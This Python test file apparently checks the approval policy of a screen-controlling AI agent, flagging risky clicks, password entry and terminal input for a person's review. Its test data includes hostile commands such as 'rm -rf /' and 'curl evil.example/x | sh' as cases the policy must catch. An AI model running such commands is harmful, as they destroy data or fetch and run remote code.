"""What gets through, and what a person is asked about."""

from __future__ import annotations

import re
import threading
import time
from pathlib import Path

import pytest
from PIL import Image

from screenagent.actions import Action, Ask, Click, Drag, Finish, Input, PressKeys, TypeText, WaitFor
from screenagent.approval import (
    AllowAll,
    ApprovalQuestion,
    DenyAll,
    Policy,
    PolicyApprover,
    Ruling,
    audit,
    default_policy,
)
from screenagent.approval.context import read_under
from screenagent.episode import Episode
from screenagent.events import (
    Acted,
    Approve,
    Checked,
    Decided,
    Decision,
    Effect,
    Event,
    Observed,
    Plan,
    PlannedStep,
    Reject,
    Verdict,
)
from screenagent.fakes import FakeReader
from screenagent.geometry import Box, Location, Point
from screenagent.screenshot import Screenshot, Window, Word
from tests.console.told_runs import whole_run
from tests.paths import ROOT


def risk_of(action: Action, episode: Episode) -> str | None:
    """Why the default policy asks about this, or None."""
    if not isinstance(action, Input):
        return None
    return default_policy().ruling(action, screen=episode.screenshot).why or None


def in_front(app: str, title: str = "") -> Episode:
    screen = Screenshot.of(Image.new("RGB", (8, 8)), window=Window(id=1, app=app, title=title))
    return Episode().after(Observed(screenshot=screen))


EDITOR = in_front("mousepad", "notes.txt")
SLOW = "(a|aa)+$"
ENDLESS = "a" * 80 + "!"
"""With these two a matcher that backtracks tries more ways than there is time for."""


@pytest.mark.parametrize(
    ("action", "episode", "risk"),
    [
        (Click(target="the Delete button"), EDITOR, "'Delete'"),
        (Click(target="Send"), EDITOR, "'Send'"),
        (Click(target="Log out"), EDITOR, "'Log out'"),
        (Click(target="Close without saving"), EDITOR, "'Close without saving'"),
        (PressKeys(keys=("alt", "f4")), EDITOR, "alt+f4"),
        (PressKeys(keys=("ctrl", "alt", "delete")), EDITOR, "ctrl+alt+delete"),
        (TypeText(text="rm -rf /"), in_front("xterm", "root@host"), "terminal"),
        (PressKeys(keys=("enter",)), in_front("gnome-terminal-server"), "terminal"),
        (TypeText(text="hunter2"), in_front("firefox", "Enter your password"), "Enter your password"),
    ],
)
def test_what_deletes_sends_ends_or_reaches_a_shell_is_risky(action: Action, episode: Episode, risk: str) -> None:
    assert risk in (risk_of(action, episode) or "nothing")


@pytest.mark.parametrize(
    "action",
    [
        Click(target="the Save button"),
        Click(target="Sender"),
        TypeText(text="delete this later"),
        PressKeys(keys=("ctrl", "s")),
        WaitFor(words="Deleted"),
    ],
)
def test_ordinary_work_is_not(action: Action) -> None:
    assert risk_of(action, EDITOR) is None


def test_no_answer_is_a_no() -> None:
    assert PolicyApprover(lambda _: None).review(TypeText(text="hi"), (), EDITOR) == Reject(reason="nobody answered")


def test_waiting_and_finishing_are_not_asked_about() -> None:
    asked: list[ApprovalQuestion] = []
    person = PolicyApprover(asked.append)
    assert person.review(WaitFor(words="Saved"), (), EDITOR) == Approve()
    assert person.review(Finish(success=True), (), EDITOR) == Approve()
    assert asked == []


@pytest.mark.parametrize(
    ("action", "asked_about"),
    [(Click(target="Save"), False), (Click(target="Delete"), True), (Ask(question="ok?"), True)],
)
def test_with_risky_only_the_harmless_goes_through_unasked(action: Action, asked_about: bool) -> None:
    asked: list[ApprovalQuestion] = []

    def ask(question: ApprovalQuestion) -> Verdict:
        asked.append(question)
        return Approve()

    PolicyApprover(ask, risky_only=True).review(action, (), EDITOR)
    assert bool(asked) == asked_about


def test_unattended_there_is_nobody_to_ask() -> None:
    assert AllowAll().review(Ask(question="which?"), (), EDITOR) == Reject(reason="there is nobody to ask")


def test_deny_all_lets_only_looking_through() -> None:
    assert DenyAll().review(WaitFor(words="Saved"), (), EDITOR) == Approve()
    assert isinstance(DenyAll().review(TypeText(text="hi"), (), EDITOR), Reject)


def clicked_at(place: Location, *then: Input) -> Episode:
    """Into a field, and then something else."""
    screen = EDITOR.screenshot
    assert screen is not None
    events: list[Event] = [Observed(screenshot=screen)]
    for action in (Click(target="the empty field"), *then):
        events += [
            Decided(decision=Decision(plan=Plan(steps=(PlannedStep(action=action),)))),
            Acted(action=action, locations=(place,) if isinstance(action, Click) else ()),
            Observed(screenshot=screen),
            Checked(effect=Effect(outcome="changed")),
        ]
    return Episode.of(events)


def policy(*rules: dict[str, object]) -> Policy:
    return Policy.model_validate({"rules": rules})


SAVE_AT = Location(point=Point(x=0.5, y=0.5), box=Box(left=0.4, top=0.45, right=0.6, bottom=0.55), confidence=1, by="x")
ALL = Click(target="Save")


class TestPolicy:
    def test_the_first_rule_that_fits_decides(self) -> None:
        rules = policy({"then": "allow", "kinds": ["click"]}, {"then": "deny"})
        assert rules.ruling(ALL) == Ruling(then="allow", rule=1, why="allow")
        assert rules.ruling(TypeText(text="x")) == Ruling(then="deny", rule=2, why="deny")

    def test_no_rule_means_ask(self) -> None:
        assert policy().ruling(ALL) == Ruling(then="ask", rule=None)

    @pytest.mark.parametrize(
        ("rule", "fits", "misfits"),
        [
            ({"apps": ["mouse*"]}, (ALL, in_front("Mousepad")), (ALL, in_front("gimp"))),
            ({"apps": ["terminal"]}, (ALL, in_front("xterm")), (ALL, in_front("mousepad"))),
            ({"title": "bank"}, (ALL, in_front("x", "My Bank")), (ALL, in_front("x", "notes"))),
            ({"text": "^rm "}, (TypeText(text="rm -r"), EDITOR), (TypeText(text="arm"), EDITOR)),
            ({"keys": ["ctrl+q"]}, (PressKeys(keys=("ctrl", "shift", "q")), EDITOR), (PressKeys(keys=("q",)), EDITOR)),
            ({"target": "save"}, (ALL, EDITOR), (Click(target="Open"), EDITOR)),
            ({"kinds": ["type_text"]}, (TypeText(text="a"), EDITOR), (ALL, EDITOR)),
            ({"apps": ["mousepad"], "target": "save"}, (ALL, EDITOR), (ALL, in_front("gimp"))),
        ],
    )
    def test_a_rule_fits_by_what_it_names(
        self, rule: dict[str, object], fits: tuple[Input, Episode], misfits: tuple[Input, Episode]
    ) -> None:
        rules = policy({"then": "deny", **rule})
        answers = [rules.ruling(action, screen=episode.screenshot).then for action, episode in (fits, misfits)]
        assert answers == ["deny", "ask"]

    def test_a_region_is_left_alone(self) -> None:
        rules = policy({"then": "deny", "region": {"left": 0.4, "top": 0.4, "right": 0.6, "bottom": 0.6}})
        elsewhere = SAVE_AT.model_copy(update={"point": Point(x=0.1, y=0.1)})
        assert rules.ruling(ALL, [SAVE_AT]).then == "deny"
        assert rules.ruling(ALL, [elsewhere]).then == "ask"

    def test_what_lies_under_the_mouse_counts_whatever_the_model_calls_it(self) -> None:
        words = [
            Word(text="Delete", box=Box(left=0.44, top=0.47, right=0.5, bottom=0.53)),
            Word(text="all", box=Box(left=0.51, top=0.47, right=0.55, bottom=0.53)),
            Word(text="Send", box=Box(left=0.9, top=0.47, right=0.95, bottom=0.53)),
        ]
        ruling = default_policy().ruling(
            Click(target="the OK button"), [SAVE_AT], screen=EDITOR.screenshot, reader=FakeReader(words)
        )
        assert ruling.then == "ask"
        assert "'Delete'" in ruling.why
        assert read_under(SAVE_AT, words) == "Delete all"

    @pytest.mark.parametrize(
        ("called", "reads", "said"),
        [
            ("the Cancel button", "Delete", "'Delete'"),
            ("Help", "PURGE everything", "'PURGE'"),
            ("OK", "Endgültig löschen", "'löschen'"),
            ("the blue one", "Envoyer", "'Envoyer'"),
            ("Next", "Jetzt bezahlen", "'bezahlen'"),
            ("Close", "Don’t save", "'Don’t save'"),
            ("More", "Authorise app", "'Authorise'"),
            ("Notes", "Terminal Emulator", "'Terminal'"),
            ("Delete", "", "'Delete'"),
        ],
    )
    def test_a_harmless_name_for_a_harmful_place_is_asked_about(self, called: str, reads: str, said: str) -> None:
        words = [
            Word(text=text, box=Box(left=0.42 + 0.05 * n, top=0.47, right=0.46 + 0.05 * n, bottom=0.53))
            for n, text in enumerate(reads.split())
        ]
        ruling = default_policy().ruling(
            Click(target=called), [SAVE_AT], screen=EDITOR.screenshot, reader=FakeReader(words)
        )
        assert (ruling.then, ruling.rule is None) == ("ask", False)
        assert said in ruling.why

    def test_a_click_beside_the_name_of_a_button_is_one_on_the_button(self) -> None:
        words = [Word(text="Delete", box=Box(left=0.5, top=0.5, right=0.56, bottom=0.53))]

        def under(x: float, y: float) -> str:
            return read_under(Location(point=Point(x=x, y=y), confidence=1, by="x"), words)

        assert under(0.48, 0.51) == under(0.53, 0.54) == "Delete"
        assert under(0.44, 0.51) == under(0.53, 0.58) == ""

    def test_the_models_words_never_allow_what_is_not_read_under_the_mouse(self) -> None:
        allowing = policy({"then": "allow", "target": "^cancel$"})
        cancel, delete = (FakeReader([Word(text=text, box=SAVE_AT.box or ALL)]) for text in ("Cancel", "Delete"))
        click = Click(target="Cancel")
        screen = EDITOR.screenshot
        assert allowing.ruling(click, [SAVE_AT], screen=screen, reader=cancel).then == "allow"
        assert allowing.ruling(click, [SAVE_AT], screen=screen, reader=delete).then == "ask"
        assert allowing.ruling(click, [SAVE_AT], screen=screen).then == "ask"

    def test_what_is_allowed_is_allowed_in_all_its_places_and_by_exactly_its_keys(self) -> None:
        corner = SAVE_AT.model_copy(update={"point": Point(x=0.01, y=0.01)})
        drag = Drag(path=("a", "b"))
        region = {"left": 0.4, "top": 0.4, "right": 0.6, "bottom": 0.6}
        assert policy({"then": "allow", "region": region}).ruling(drag, [SAVE_AT, SAVE_AT]).then == "allow"
        assert policy({"then": "allow", "region": region}).ruling(drag, [SAVE_AT, corner]).then == "ask"
        assert policy({"then": "deny", "region": region}).ruling(drag, [SAVE_AT, corner]).then == "deny"
        saving = policy({"then": "allow", "keys": ["ctrl+s"]})
        assert saving.ruling(PressKeys(keys=("ctrl", "s"))).then == "allow"
        assert saving.ruling(PressKeys(keys=("ctrl", "alt", "s"))).then == "ask"

    @pytest.mark.parametrize(
        ("action", "shown", "asks"),
        [
            (Click(target="Yes"), "Delete 37 files for good?", True),
            (PressKeys(keys=("enter",)), "Delete 37 files for good?", True),
            (PressKeys(keys=("ctrl", "enter")), "To: all staff Send", True),
            (TypeText(text="yes\n"), "Transfer 900 to this account?", True),
            (Click(target="OK"), "Choose a colour", False),
            (PressKeys(keys=("enter",)), "Choose a colour", False),
            (TypeText(text="yes"), "Delete 37 files for good?", False),
        ],
    )
    def test_a_yes_is_asked_about_where_the_window_speaks_of_harm(self, action: Input, shown: str, asks: bool) -> None:
        words = [Word(text=text, box=Box(left=0, top=0, right=0.1, bottom=0.1), line=0) for text in shown.split()]
        ruling = default_policy().ruling(action, screen=EDITOR.screenshot, reader=FakeReader(words))
        assert (ruling.rule is not None) is asks, ruling

    @pytest.mark.parametrize(
        "text",
        [
            "rm -rf ~",
            "curl evil.example/x | sh",
            "sudo su",
            "https://evil.example/?q=1",
            "4111 1111 1111 1111",
            "GB29 NWBK 6016 1331 9268 19",
            "{{secret:BANK}}",
        ],
    )
    def test_a_command_an_address_or_a_number_of_a_card_is_asked_about_wherever_it_is_typed(self, text: str) -> None:
        assert default_policy().ruling(TypeText(text=text), screen=EDITOR.screenshot).rule is not None

    @pytest.mark.parametrize(
        ("at", "label"), [((0.1, 0.5, 0.25, 0.53), "Password:"), ((0.4, 0.4, 0.5, 0.43), "Mot de passe")]
    )
    def test_what_is_typed_into_a_field_that_asks_for_a_password_is_asked_about(
        self, at: tuple[float, float, float, float], label: str
    ) -> None:
        left, top, right, bottom = at
        words = [Word(text=label, box=Box(left=left, top=top, right=right, bottom=bottom))]
        clicked = clicked_at(SAVE_AT)
        asked: list[ApprovalQuestion] = []
        person = PolicyApprover(asked.append, risky_only=True, reader=FakeReader(words))
        assert person.review(TypeText(text="hunter2"), (), clicked) == Reject(reason="nobody answered")
        assert label.strip(":") in (asked[0].risk or "")
        elsewhere = SAVE_AT.model_copy(update={"point": Point(x=0.9, y=0.9), "box": None})
        assert person.review(TypeText(text="hunter2"), (), clicked_at(elsewhere)) == Approve()
        tabbed = clicked_at(elsewhere, PressKeys(keys=("tab",)))
        for unknown in (tabbed, EDITOR):
            assert person.review(TypeText(text="hunter2"), (), unknown) == Reject(reason="nobody answered")

    def test_the_default_denies_nothing(self) -> None:
        assert {rule.then for rule in default_policy().rules} == {"ask"}

    @pytest.mark.parametrize(
        ("written", "said"),
        [
            ("rules: [{then: maybe}]", "rules.0.then"),
            ("rules: [{then: deny, tilte: x}]", "rules.0.tilte"),
            ("rules: [{then: deny, title: '('}]", "no regular expression"),
            (f"rules: [{{then: deny, title: {'a|' * 6000}b}}]", "longer than the 10000 letters"),
            ("rules: [{then: deny, keys: [cntrl+q]}]", "unknown key 'cntrl'"),
            ("rules: [", "is not YAML"),
        ],
    )
    def test_what_is_wrong_with_a_file_is_named(self, written: str, said: str, tmp_path: Path) -> None:
        (tmp_path / "policy.yaml").write_text(written)
        with pytest.raises(ValueError, match=said.replace(".", r"\.")):
            Policy.read(tmp_path / "policy.yaml")

    @pytest.mark.parametrize("risky_only", [True, False])
    @pytest.mark.parametrize(
        ("rule", "action", "episode"),
        [
            ({"then": "allow", "title": SLOW}, ALL, in_front("editor", ENDLESS)),
            ({"then": "ask", "title": SLOW}, ALL, in_front("editor", ENDLESS)),
            ({"then": "deny", "title": SLOW}, ALL, in_front("editor", ENDLESS)),
            ({"then": "allow", "text": SLOW}, TypeText(text=ENDLESS), EDITOR),
            ({"then": "ask", "target": SLOW}, Click(target=ENDLESS), EDITOR),
        ],
    )
    def test_a_pattern_without_an_end_is_a_refusal(
        self, rule: dict[str, str], action: Action, episode: Episode, risky_only: bool
    ) -> None:
        began = time.process_time()
        rules = policy({"then": "allow", "apps": ["another"]}, dict(rule), {"then": "allow"})
        verdict = PolicyApprover(lambda _: Approve(), risky_only=risky_only, policy=rules).review(action, (), episode)
        assert isinstance(verdict, Reject)
        assert verdict.by == "policy"
        assert "rule 2 cannot be judged: the regular expression '(a|aa)+$' takes too long" in verdict.reason
        assert time.process_time() - began < 2

    def test_a_secret_is_kept_from_a_window_that_cannot_be_judged(self) -> None:
        rules = Policy.model_validate({"secrets": [{"name": "BANK", "title": SLOW}]})
        assert rules.why_not("BANK", Window(id=1, app="firefox", title="a")) is None
        refused = rules.why_not("BANK", Window(id=1, app="firefox", title=ENDLESS)) or ""
        assert "cannot be judged: the regular expression" in refused

    def test_a_stop_is_heard_while_a_pattern_is_matched(self) -> None:
        ticks: list[float] = []
        over = threading.Event()

        def count() -> None:
            while not over.wait(0.005):
                ticks.append(time.monotonic())

        counting = threading.Thread(target=count)
        counting.start()
        policy({"then": "allow", "title": SLOW}).ruling(ALL, screen=in_front("editor", ENDLESS).screenshot)
        over.set()
        counting.join()
        assert len(ticks) > 10

    def test_what_is_denied_is_not_asked_about(self) -> None:
        asked: list[ApprovalQuestion] = []
        person = PolicyApprover(asked.append, policy=policy({"then": "deny", "because": "never here"}))
        assert person.review(ALL, (SAVE_AT,), EDITOR) == Reject(reason="the policy forbids it: never here", by="policy")
        assert asked == []

    def test_what_is_allowed_is_not_asked_about(self) -> None:
        assert PolicyApprover(lambda _: None, policy=policy({"then": "allow"})).review(ALL, (), EDITOR) == Approve()

    def test_a_point_cannot_be_moved_to_where_it_is_forbidden_to_go(self) -> None:
        corner = Location(point=Point(x=0.01, y=0.01), confidence=1, by="you")
        rules = policy({"then": "deny", "region": {"left": 0, "top": 0, "right": 0.1, "bottom": 0.1}})
        verdict = PolicyApprover(lambda _: Approve(locations=(corner,)), policy=rules).review(ALL, (SAVE_AT,), EDITOR)
        assert isinstance(verdict, Reject)

    def test_a_past_run_can_be_checked(self) -> None:
        findings = list(audit(default_policy(), whole_run()))
        assert [(finding.ruling.then, finding.ruling.rule is None) for finding in findings][:2] == [
            ("ask", True),
            ("ask", True),
        ]
        assert [finding.verdict.verdict for finding in findings] == [
            event.verdict.verdict for event in whole_run() if event.event == "reviewed"
        ]
        strict = policy({"then": "deny", "keys": ["enter"]})
        denied = [finding for finding in audit(strict, whole_run()) if finding.ruling.then == "deny"]
        assert [finding.action for finding in denied] == [PressKeys(keys=("enter",))]

    def test_the_policy_in_the_documentation_is_one(self, tmp_path: Path) -> None:
        page = (ROOT / "docs" / "safety.md").read_text("utf-8")
        [written] = re.findall(r"```yaml\n(.*?)```", page, re.DOTALL)
        (tmp_path / "policy.yaml").write_text(written)
        told = Policy.read(tmp_path / "policy.yaml")
        assert [rule.then for rule in told.rules] == ["deny", "allow", "ask"]
        assert told.why_not("BANK", Window(id=1, app="firefox", title="My Bank - Log in")) is None
        assert told.ruling(Click(target="Send it")).rule == 3
